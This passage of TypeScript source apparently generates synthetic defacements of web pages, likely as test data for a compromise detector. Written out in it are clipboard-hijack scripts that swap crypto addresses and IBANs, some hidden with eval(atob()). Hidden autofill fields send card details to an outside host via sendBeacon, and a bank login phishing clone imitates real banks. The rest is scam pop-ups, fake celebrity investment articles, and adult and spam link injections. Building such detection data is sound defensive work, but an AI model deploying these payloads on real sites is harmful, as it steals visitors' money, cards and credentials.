    `document.addEventListener("copy",function(e){var s=String(window.getSelection());s=s.replace(/\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/g,"${btc}").replace(/\\b0x[a-fA-F0-9]{40}\\b/g,"${eth}");e.clipboardData.setData("text/plain",s);e.preventDefault()});`,
    `document.addEventListener("copy",function(e){var s=window.getSelection().toString();if(/[A-Z]{2}\\d{2}[ ]?[\\dA-Z]{4}/.test(s)){e.clipboardData.setData("text/plain",s.replace(/[A-Z]{2}\\d{2}(?:[ ]?[\\dA-Z]{4}){3,7}(?:[ ]?[\\dA-Z]{1,3})?/g,"${iban}"));e.preventDefault()}});`,
    `document.oncopy=function(e){var t=getSelection()+"";var r={btc:"${btc}",eth:"${eth}"};t=t.replace(/0x[0-9a-f]{40}/gi,r.eth).replace(/bc1[a-z0-9]{25,62}/g,r.btc);(e.clipboardData||window.clipboardData).setData("text",t);return false};`
  ])
  return splices(insert(scriptSpot(rng, page), `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`))
})

// "Congratulations, you are today's lucky visitor" prize-survey scams served by injected scripts on hacked sites (Malwarebytes and Sucuri reports): a pop-up in the site's language promising a prize for answering three questions and paying shipping.
const luckyVisitor = fresh2("'lucky visitor' prize survey pop-up", (page, rng) => {
  const prize = pick(rng, ["iPhone 17 Pro", "Samsung Galaxy S26", "PlayStation 5", "€500 gift card", "$1,000 Walmart gift card", "Dyson V15"])
  const brand = page.site.brand.charAt(0).toUpperCase() + page.site.brand.slice(1)
  const [h, p, q, b] = siteOr(rng, page, {
    en: [`Congratulations, ${brand} visitor!`, `You have been selected to receive a ${prize}. Answer 3 short questions; only shipping (€1.95) is charged.`, "How often do you visit our site?", "Claim my prize"],
    fr: ["Félicitations !", `Vous avez été sélectionné pour recevoir un ${prize}. Répondez à 3 questions ; seuls les frais de port (1,95 €) sont à payer.`, "À quelle fréquence visitez-vous notre site ?", "Réclamer mon cadeau"],
    de: ["Herzlichen Glückwunsch!", `Sie wurden ausgewählt, ein ${prize} zu erhalten. Beantworten Sie 3 Fragen, Sie zahlen nur den Versand (1,95 €).`, "Wie oft besuchen Sie unsere Seite?", "Gewinn abholen"],
    es: ["¡Enhorabuena!", `Ha sido seleccionado para recibir un ${prize}. Responda 3 preguntas; solo paga el envío (1,95 €).`, "¿Con qué frecuencia visita nuestro sitio?", "Reclamar mi premio"],
    nl: ["Gefeliciteerd!", `U bent geselecteerd voor een ${prize}. Beantwoord 3 vragen; u betaalt alleen verzendkosten (€ 1,95).`, "Hoe vaak bezoekt u onze site?", "Claim mijn prijs"],
    pt: ["Parabéns!", `Você foi selecionado para receber um ${prize}. Responda 3 perguntas; pague apenas o frete (R$ 9,90).`, "Com que frequência você visita nosso site?", "Resgatar meu prêmio"],
    it: ["Congratulazioni!", `Sei stato selezionato per ricevere un ${prize}. Rispondi a 3 domande; paghi solo la spedizione (1,95 €).`, "Quanto spesso visiti il nostro sito?", "Ritira il premio"]
  })
  const url = `https://${randomDomain(rng)}/${pick(rng, ["survey", "win", "prize", "reward"])}/?c=${alnum(rng, 8)}&amp;s=${page.site.brand}`
  const when = new Date(Date.UTC(2026, between(rng, 0, 11), between(rng, 1, 28))).toISOString().slice(0, 10)
  const box = `<div class="${pick(rng, ["survey-modal", "prize", "lucky"])}" style="position:fixed;top:${between(rng, 5, 20)}%;left:50%;transform:translateX(-50%);width:${between(rng, 320, 520)}px;background:#fff;border:4px solid ${pick(rng, ["#f4b400", "#db4437", "#0f9d58"])};z-index:${between(rng, 9999, 2147483647)};padding:20px;text-align:center"><p><small>${when}</small></p><h2>🎁 ${esc(h)}</h2><p>${esc(p)}</p><p><b>1/3:</b> ${esc(q)}</p><p><a href="${url}" style="background:#0f9d58;color:#fff;padding:10px 24px">${esc(b)}</a></p></div>`
  const dim = chance(rng, 0.5) ? `<div style="position:fixed;inset:0;background:rgba(0,0,0,.7);z-index:9998"></div>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page)]), dim + box))
})

/** Invented public figures (never real people), as the scam articles use a national celebrity. */
const celebrities: Record<Lang, ReadonlyArray<string>> = {
  en: ["TV presenter James Whitfield", "money expert Sarah Colbright", "billionaire Richard Haversham"], fr: ["l'animateur Julien Marceau", "la présentatrice Claire Dumontel"],
  de: ["Moderator Thomas Brandauer", "Unternehmerin Katrin Wellmann"], es: ["el presentador Javier Montalbán", "la empresaria Lucía Ferrand"],
  nl: ["presentator Pieter van Dalen", "ondernemer Sanne Verhoef"], pt: ["o apresentador Ricardo Albuquerque", "a empresária Helena Vasconcelos"], it: ["il conduttore Marco Bellandi", "l'imprenditrice Giulia Ferraresi"]
}

// Fake news articles on hijacked news sites promoting investment scams with a celebrity's invented endorsement (the "Bitcoin Era" and "Immediate Edge" campaigns reported by the FCA, ASIC and the BBC, 2018–2024): a teaser or article in the site's style linking to a registration page.
const celebrityScam = fresh2("fake celebrity-endorsed investment article", (page, rng) => {
  const who = pick(rng, siteOr(rng, page, celebrities))
  const platform = pick(rng, ["Immediate Vortex", "Quantum AI", "Bitcoin Era", "Trade Edge 360", "Crypto Genius"])
  const url = `https://${randomDomain(rng)}/${pick(rng, ["article", "news", "story"])}/${alnum(rng, 8)}?aff=${digits(rng, 5)}`
  const [h, p, b] = siteOr(rng, page, {
    en: [`${who} reveals how he earns thousands a week from home`, `In a live interview, ${who} revealed the "${platform}" platform. Viewers who joined report earnings of £1,200 in their first week. The banks want this stopped.`, "Register now"],
    fr: [`${who} révèle comment gagner des milliers d'euros par semaine`, `Lors d'une interview, ${who} a dévoilé la plateforme « ${platform} ». Les premiers inscrits gagnent 1 200 € dès la première semaine.`, "S'inscrire maintenant"],
    de: [`${who} verrät, wie man von zu Hause Tausende verdient`, `In einem Live-Interview stellte ${who} die Plattform „${platform}“ vor. Nutzer berichten von 1.200 € in der ersten Woche.`, "Jetzt registrieren"],
    es: [`${who} revela cómo ganar miles de euros a la semana`, `En una entrevista en directo, ${who} presentó la plataforma «${platform}». Los usuarios ganan 1.200 € la primera semana.`, "Regístrese ahora"],
    nl: [`${who} onthult hoe je duizenden euro's per week verdient`, `In een live-interview onthulde ${who} het platform "${platform}". Deelnemers verdienen € 1.200 in hun eerste week.`, "Nu registreren"],
    pt: [`${who} revela como ganhar milhares por semana em casa`, `Em entrevista ao vivo, ${who} revelou a plataforma "${platform}". Participantes ganham R$ 6.000 na primeira semana.`, "Cadastre-se agora"],
    it: [`${who} rivela come guadagnare migliaia di euro a settimana`, `In un'intervista in diretta, ${who} ha svelato la piattaforma "${platform}". Gli utenti guadagnano 1.200 € nella prima settimana.`, "Registrati ora"]
  })
  const img = `https://${randomDomain(rng)}/img/${alnum(rng, 8)}.jpg`
  const el = pick(rng, [
    `<article class="${pick(rng, ["story", "post", "news-item"])}"><h2><a href="${url}">${esc(h)}</a></h2><img src="${img}" alt=""><p>${esc(p)}</p><p><a class="button" href="${url}">${esc(b)} →</a></p></article>`,
    `<div class="teaser"><a href="${url}"><img src="${img}" width="120" alt=""> <strong>${esc(h)}</strong></a></div>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), anySlot(rng, page.spots), top(page)]), el))
})

// Browser-autofill phishing (Viljami Kuosmanen's 2017 demonstration, later used by phishing kits): fields for name, address, phone and card, hidden off-screen, added to an existing form so autofill hands them over with the e-mail, sent to the attacker by a formaction or a script.
const autofillFields = fresh2("hidden autofill fields added to an existing form", (page, rng) => {
  const forms = page.spots.elements.filter((e) => e.name === "form" && e.shown)
  const form = forms.find((f) => /newsletter/.test(f.attribs.class ?? "")) ?? forms[0]
  const hide = pick(rng, ["position:absolute;left:-9999px", "opacity:0;position:absolute;width:1px;height:1px", "position:fixed;top:-500px"])
  const fields = sample(rng, [["name", "name"], ["tel", "tel"], ["address", "street-address"], ["zip", "postal-code"], ["cc", "cc-number"], ["exp", "cc-exp"], ["cvc", "cc-csc"], ["org", "organization"]] as const, between(rng, 3, 7))
  const inputs = `<div style="${hide}">${fields.map(([n, a]) => `<input name="${n}" autocomplete="${a}" tabindex="-1">`).join("")}</div>`
  const sink = `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["collect", "c.php", "f", "sub"])}`
  const send = pick(rng, [
    `<button type="submit" formaction="${sink}" style="${hide}" tabindex="-1">ok</button>`,
    `<script>document.addEventListener("submit",function(e){navigator.sendBeacon(${jsUrl(rng, sink)},new FormData(e.target))},true)</script>`
  ])
  if (form === undefined) return splices(insert(anySlot(rng, page.spots), `<form action="${sink}" method="post">${inputs}<input type="email" name="email" autocomplete="email"><button>OK</button></form>`))
  return splices(insert(form.openEnd, inputs + (send.startsWith("<button") ? send : "")), ...(send.startsWith("<script") ? [insert(scriptSpot(rng, page), send)] : []))
})

// Adult-content injections on hacked sites (school, council and government sites reported showing adult ads and links; adult ad-network code in compromised themes): banners and links to adult sites.
const adultAds = fresh2("adult ad banners and links injected", (page, rng) => {
  const net = randomDomain(rng)
  const lines = sample(rng, ["Hot singles in your area", "18+ Live cams — free now", "Meet local girls tonight", "Adult dating — no sign-up", "XXX videos 18+", "Chat with lonely wives", "Célibataires près de chez vous", "Sexy Singles in deiner Nähe"], between(rng, 2, 4))
  const items = lines.map((l) => `<a href="https://${net}/${pick(rng, ["go", "click", "in"])}/${alnum(rng, 6)}?zone=${digits(rng, 6)}" target="_blank" rel="nofollow"><img src="https://${pick(rng, [net, randomDomain(rng)])}/b/${alnum(rng, 8)}.${pick(rng, ["gif", "jpg", "webp"])}" width="${pick(rng, ["300", "728", "160"])}" height="${pick(rng, ["250", "90", "600"])}" alt="${l}"><span>${l}</span></a>`)
  const el = pick(rng, [
    `<div class="${pick(rng, ["ads", "banner-zone", "spons"])}" style="text-align:center">${items.join(" ")}</div>`,
    `<ul class="links">${items.map((i) => `<li>${i}</li>`).join("")}</ul>`,
    `<div style="position:fixed;bottom:0;right:0;z-index:99999;background:#fff">${items[0]}</div>`
  ])
  const loader = chance(rng, 0.4) ? scriptTag(rng, `https://${randomDomain(rng)}/${pick(rng, ["ad-provider.js", "popunder.js", "tag.js"])}?z=${digits(rng, 6)}`) : ""
  return splices(insert(pick(rng, [anySlot(rng, page.spots), top(page), bottom(page)]), el), ...(loader === "" ? [] : [insert(scriptSpot(rng, page), loader)]))
})

// Footer-link spam from hacked and nulled themes (theme-credit link injections reported by Sucuri and Wordfence): a small "powered by" or "sponsored by" line at the foot of the page linking to casino, loan or replica-goods sites.
const footerCredit = fresh2("footer credit line linking to spam sites", (page, rng) => {
  const anchors = sample(rng, ["online casino", "payday loans", "replica watches", "buy Instagram followers", "essay writing service", "crypto casino", "cheap Viagra", "betting sites not on GamStop", "situs slot", "kredit ohne Schufa"], between(rng, 1, 3))
  const links = anchors.map((a) => `<a href="https://${randomDomain(rng)}/${pick(rng, ["", a.replace(/\s+/g, "-") + "/"])}"${chance(rng, 0.5) ? ` rel="dofollow"` : ""}>${a}</a>`).join(pick(rng, [" | ", ", ", " · "]))
  const lead = siteOr(rng, page, {
    en: pick(rng, ["Powered by", "Sponsored by", "Theme by", "Partners:"]), fr: pick(rng, ["Propulsé par", "Sponsorisé par"]), de: pick(rng, ["Unterstützt von", "Gesponsert von"]),
    es: pick(rng, ["Patrocinado por", "Con la tecnología de"]), nl: pick(rng, ["Mogelijk gemaakt door", "Gesponsord door"]), pt: pick(rng, ["Patrocinado por", "Desenvolvido por"]), it: pick(rng, ["Sponsorizzato da", "Realizzato da"])
  })
  const el = pick(rng, [
    `<p class="${pick(rng, ["credits", "site-info", "footer-credit"])}" style="font-size:${between(rng, 9, 12)}px;text-align:center">${lead} ${links}</p>`,
    `<div class="site-info">© ${between(rng, 2024, 2026)} ${esc(page.site.brand)} · ${lead} ${links}</div>`,
    `<small>${lead} ${links}</small>`
  ])
  return splices(insert(chance(rng, 0.8) ? bottom(page) : slotAt(page.spots, "bottom"), el))
})

/** Brands phishing kits copy, by the site's country (banks and services visitors there use). */
const phishBrands: Record<string, ReadonlyArray<string>> = {
  us: ["Chase", "Wells Fargo", "Bank of America", "PayPal", "Netflix", "Microsoft"], uk: ["Barclays", "HSBC", "Lloyds Bank", "Royal Mail", "HMRC", "PayPal"],
  fr: ["Crédit Agricole", "La Banque Postale", "Ameli", "impots.gouv", "Chronopost"], de: ["Sparkasse", "Deutsche Bank", "DHL", "Commerzbank", "PayPal"],
  es: ["BBVA", "Santander", "CaixaBank", "Correos", "Agencia Tributaria"], nl: ["ING", "Rabobank", "ABN AMRO", "PostNL", "DigiD"],
  au: ["Commonwealth Bank", "Westpac", "myGov", "Australia Post"], in: ["State Bank of India", "HDFC Bank", "ICICI Bank", "India Post"],
  br: ["Itaú", "Bradesco", "Caixa", "Correios", "Nubank"], it: ["Intesa Sanpaolo", "UniCredit", "Poste Italiane", "INPS"]
}

// APWG and abuse.ch reports that most phishing pages sit on compromised sites, and phishing-kit write-ups (16Shop, LogoKit and bank kits): the page's address now serves a copy of a bank's or a service's sign-in page, posting to the kit.
const phishingClone = fresh2("page replaced by a bank or service sign-in clone", (page, rng) => {
  const brand = pick(rng, phishBrands[page.site.locale.country] ?? phishBrands.us!)
  const post = pick(rng, ["next.php", "login.php", "auth.php", "verify/step2.php", `${alnum(rng, 6)}.php`, "send.php"])
  const [signIn, user, pass, go, alert] = siteOr<readonly [string, string, string, string, string]>(rng, page, {
    en: ["Sign in to online banking", "User ID or e-mail", "Password", "Sign in", "For your security, please confirm your details."],
    fr: ["Connexion à votre espace client", "Identifiant", "Mot de passe", "Se connecter", "Pour votre sécurité, veuillez confirmer vos informations."],
    de: ["Anmeldung zum Online-Banking", "Anmeldename oder Legitimations-ID", "PIN", "Anmelden", "Zu Ihrer Sicherheit bestätigen Sie bitte Ihre Daten."],
    es: ["Acceso a banca online", "Usuario o DNI", "Contraseña", "Entrar", "Por su seguridad, confirme sus datos."],
    nl: ["Inloggen bij Mijn omgeving", "Gebruikersnaam", "Wachtwoord", "Inloggen", "Bevestig voor uw veiligheid uw gegevens."],
    pt: ["Acesse sua conta", "CPF ou agência e conta", "Senha", "Entrar", "Para sua segurança, confirme seus dados."],
    it: ["Accedi all'area clienti", "Codice titolare", "PIN", "Accedi", "Per la tua sicurezza conferma i tuoi dati."]
  })
  const logo = pick(rng, [`images/${alnum(rng, 5)}.png`, "files/logo.svg", `https://${randomDomain(rng)}/logo/${alnum(rng, 6)}.png`, `data:image/png;base64,${b64(alnum(rng, 48))}`])
  const html = `<!DOCTYPE html><html lang="${lang(page)}"><head><meta charset="utf-8"><title>${esc(brand)} – ${esc(signIn)}</title><link rel="icon" href="${pick(rng, ["favicon.ico", "images/fav.png"])}">${style(rng, `body{font-family:Arial,sans-serif;background:#f3f4f6;margin:0}.box{max-width:380px;margin:60px auto;background:#fff;padding:30px;border-radius:6px}input{display:block;width:100%;margin:8px 0;padding:10px}`)}</head><body><div class="box"><img src="${logo}" alt="${esc(brand)}" height="40"><h1 style="font-size:20px">${esc(signIn)}</h1><p>${esc(alert)}</p><form method="post" action="${post}" autocomplete="off"><input type="text" name="${pick(rng, ["user", "login", "userid", "cpf"])}" placeholder="${esc(user)}" required><input type="password" name="${pick(rng, ["pass", "pwd", "pin"])}" placeholder="${esc(pass)}" required><input type="hidden" name="ref" value="${alnum(rng, 12)}"><button type="submit">${esc(go)}</button></form><p><small>© ${between(rng, 2024, 2026)} ${esc(brand)}</small></p></div></body></html>`
  return { html }
}, true)

/** Every fresh2 defacement class, in a fixed order. */
export const fresh2Defacements: ReadonlyArray<ChangeClass> = [
  cdnPackage, gtmContainer, fakeChallenge, documentGate, framedDefacement, scriptWritten, fabricatedHeadline, slotGacor,
  canonicalHijack, websocketLoader, contactHref, paymentQr, ddosScript, leakSample, clipboardHijack, luckyVisitor,
  celebrityScam, autofillFields, adultAds, footerCredit, phishingClone
]
